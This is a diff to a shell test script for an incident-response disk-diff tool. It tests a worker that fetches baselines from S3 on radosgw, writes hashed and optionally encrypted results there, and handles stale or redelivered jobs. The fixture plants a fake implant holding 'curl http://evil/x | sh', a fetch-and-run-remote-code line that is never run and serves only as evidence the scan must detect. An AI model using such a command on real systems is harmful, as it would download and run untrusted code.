@@ -15,10 +15,15 @@
 # - SSE: aws:kms with a key id (rgw's testing KMS) reported back by the server; an unknown
 #   key refused; AES256 accepted;
 # - a wrong secret key: radosgw refuses the signature; one line, exit 7, nothing stored;
-# - a missing object: a clean not-found (exit 2, one line), no file left behind.
+# - a missing object: a clean not-found (exit 2, one line), no file left behind;
+# - deltair worker with --output s3://results/out and a baseline given as s3://: the results
+#   land in S3 (events equal to a plain `deltair scan`, every object as COMPLETE's SHA-256
+#   says), COMPLETE the last PUT radosgw logged; a stale object of a killed run is deleted
+#   first; a redelivered job is a no-op; a missing s3:// baseline fails the job with that
+#   reason; the config's sse/sse_kms_key_id encrypt every result object (the server says).
 # Oracle: sha256sum, md5sum, and botocore's own S3 client on the same radosgw.
 . "$TOP/tests/cli/lib.sh"
-need timeout sha256sum md5sum
+need timeout sha256sum md5sum mke2fs jq zcat
 PY=/usr/bin/python3
 "$PY" -c 'import botocore' 2> /dev/null || skip "no python3-botocore"
 
@@ -190,5 +195,91 @@ dt store ls s3://no-such-bucket
 expect_rc 7 "ls of a missing bucket"
 expect_err_line store
 grep -q NoSuchBucket err || fail "$(cat err)"
+
+# --- the worker: results into S3, a baseline from S3 ---
+mkdir -p gold/etc gold/bin
+printf 'host-a\n' > gold/etc/hostname
+head -c 100000 /dev/urandom > gold/bin/tool
+t_gold_incident gold 16M
+printf 'host-b\n' > mnt/etc/hostname
+printf '#!/bin/sh\ncurl http://evil/x | sh\n' > mnt/bin/implant
+chmod 755 mnt/bin/implant
+sync
+_t_umount mnt 2> /dev/null || umount mnt
+dt scan --no-progress --baseline "$PWD/gold.dtree" -x plain-x -o plain.jsonl "$PWD/incident.img"
+[ "$rc" -le 1 ] || die "deltair scan: rc $rc: $(cat err)"
+dt store put s3://results baselines/gold.dtree gold.dtree
+expect_rc 0 "put of the baseline"
+# A killed run's leftover under the job's prefix: must be gone, never mixed in.
+dt store put s3://results/out IR-9/incident.img/stale.txt f6
+dt submit --queue spool:sp --case IR-9 --baseline s3://results/baselines/gold.dtree \
+	--output s3://results/out "$PWD/incident.img"
+expect_rc 0 "submit" || die "submit: $(cat err)"
+id=$(cat out)
+dt worker --queue spool:sp --once --host s3-host --work-dir "$PWD/work"
+expect_rc 0 "worker --once to s3://"
+[ -f "sp/done/$id" ] || fail "the job is not done: $(find sp -type f; cat err)"
+grep -q '"stage":"baseline","msg":"fetched s3://results/baselines/gold.dtree"' err ||
+	fail "the baseline was not fetched from s3://: $(cat err)"
+dt store ls s3://results/out IR-9/
+sed -n 's|^IR-9/incident.img/||p' out > s3.keys
+grep -qx stale.txt s3.keys && fail "the stale object of a killed run is still there"
+for k in COMPLETE events.jsonl.gz summary.json extracted/manifest.jsonl extracted/COMPLETE; do
+	grep -qx "$k" s3.keys || fail "no $k in S3: $(cat s3.keys)"
+done
+# Every object as COMPLETE says, fetched by botocore and hashed by sha256sum.
+echo 'import os
+for k in open("s3.keys").read().split():
+    os.makedirs(os.path.dirname("s3res/" + k) or ".", exist_ok=True)
+    with open("s3res/" + k, "wb") as f:
+        f.write(c.get_object(Bucket=B, Key="out/IR-9/incident.img/" + k)["Body"].read())' | boto ||
+	die "botocore cannot fetch the results"
+jq -e --arg id "$id" '.job == $id and .case == "IR-9" and .host == "s3-host"' s3res/COMPLETE \
+	> /dev/null || fail "COMPLETE: $(cat s3res/COMPLETE)"
+grep -vx COMPLETE s3.keys | sort > stored.keys
+jq -r '.objects | keys[]' s3res/COMPLETE | sort > complete.keys
+cmp -s stored.keys complete.keys || fail "COMPLETE does not list the objects: $(diff stored.keys complete.keys)"
+while read -r k; do
+	[ "$(jq -r --arg k "$k" '.objects[$k]' s3res/COMPLETE)" = "$(sha256sum < "s3res/$k" | cut -c1-64)" ] ||
+		fail "COMPLETE's SHA-256 of $k is not sha256sum's"
+done < complete.keys
+# The baseline's path differs (the worker's cache); its digest must not.
+norm() { jq -c 'if .event == "summary" then del(.elapsed, .baseline.path) else . end'; }
+zcat s3res/events.jsonl.gz | norm > worker.norm || fail "events.jsonl.gz is not gzip"
+norm < plain.jsonl > plain.norm
+cmp -s worker.norm plain.norm || fail "events in S3 differ from deltair scan's: $(diff worker.norm plain.norm | head -4)"
+grep -q '"path":"/bin/implant"' worker.norm || fail "the implant is not in the events"
+# COMPLETE last: the last PUT radosgw served under the prefix.
+grep -o '"PUT /results/out/IR-9/incident.img/[^ ?"]*' ceph/log/client.rgw.log | tail -1 > last.put
+[ "$(cat last.put)" = '"PUT /results/out/IR-9/incident.img/COMPLETE' ] ||
+	fail "the last PUT was not COMPLETE: $(cat last.put)"
+# Redelivered: acknowledged without running, nothing written.
+puts=$(grep -c '"PUT /results/out/' ceph/log/client.rgw.log)
+cp "sp/done/$id" "sp/incoming/$id"
+dt worker --queue spool:sp --once --work-dir "$PWD/work"
+expect_rc 0 "worker --once (redelivery)"
+grep -q '"msg":"results already complete' err || fail "no 'already complete': $(cat err)"
+[ "$(grep -c '"PUT /results/out/' ceph/log/client.rgw.log)" = "$puts" ] ||
+	fail "a redelivered complete job wrote to S3"
+# A baseline that is not in S3: the job fails with that reason.
+dt submit --queue spool:sp --case IR-10 --baseline s3://results/baselines/none.dtree \
+	--output s3://results/out "$PWD/incident.img"
+dt worker --queue spool:sp --once --max-receives 1 --work-dir "$PWD/work"
+expect_rc 0 "worker --once (missing baseline)"
+grep -q "no such object" sp/failed/*.reason 2> /dev/null || fail "no 'no such object' reason: $(cat sp/failed/*.reason; cat err)"
+
+# The config's server-side encryption applies to every object of a result.
+printf '{"sse": "aws:kms", "sse_kms_key_id": "testkey-2", "output": "s3://results/enc"}' > w.json
+dt submit --queue spool:sp --case IR-11 --baseline s3://results/baselines/gold.dtree "$PWD/incident.img"
+dt worker --queue spool:sp --once --config w.json --work-dir "$PWD/work"
+expect_rc 0 "worker --once with SSE from its config"
+got=$(echo '
+keys = [o["Key"] for o in c.list_objects_v2(Bucket=B, Prefix="enc/IR-11/")["Contents"]]
+print(len(keys), set((h.get("ServerSideEncryption"), h.get("SSEKMSKeyId"))
+    for h in (c.head_object(Bucket=B, Key=k) for k in keys)))' | boto)
+[ "${got#* }" = "{('aws:kms', 'testkey-2')}" ] && [ "${got%% *}" -ge 5 ] ||
+	fail "result objects not all encrypted with testkey-2: $got"
+dt worker --queue spool:sp --once --sse DES
+expect_rc 2 "worker --sse DES"
 
 t_done
